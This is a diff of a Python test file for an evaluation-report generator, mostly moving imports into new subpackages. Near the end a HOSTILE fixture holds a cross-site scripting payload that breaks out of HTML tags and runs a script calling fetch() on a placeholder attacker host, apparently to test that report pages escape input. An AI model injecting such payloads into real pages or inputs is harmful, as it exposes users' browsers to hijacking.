@@ -14,17 +14,17 @@ import pytest
 
 from tests.page.conftest import browser, missing, open_tab  # noqa: F401  (fixtures)
 from tests.page.test_views import violations
-from trainers.evaluation.calibration import compared
-from trainers.evaluation.compare import compare
 from trainers.evaluation.core import Answer, Comparison, Estimate, Measure, Question
-from trainers.evaluation.judge import Item, Verdict
-from trainers.evaluation.labelled import Labelled
-from trainers.evaluation.page.markup import joined, tag
-from trainers.evaluation.page.plots import forest, nice, stack
-from trainers.evaluation.preference import preference
-from trainers.evaluation.report import SCHEMA, table, write_report
-from trainers.evaluation.terminal import judged
-from trainers.evaluation.wording import change, interval, needs, summary, value, word
+from trainers.evaluation.judging.calibration import compared
+from trainers.evaluation.judging.labelled import Labelled
+from trainers.evaluation.report.page.markup import joined, tag
+from trainers.evaluation.report.page.plots import forest, nice, stack
+from trainers.evaluation.report.report_files import SCHEMA, table, write_report
+from trainers.evaluation.report.terminal import judged
+from trainers.evaluation.report.wording import change, interval, needs, summary, value, word
+from trainers.evaluation.stats.compare import compare
+from trainers.evaluation.stats.preference import preference
+from trainers.judge.pairwise import Item, Verdict
 
 HOSTILE = (
     '</p></span></div></style></title></main><script>document.title="owned";fetch("http://evil.example/")</script>'
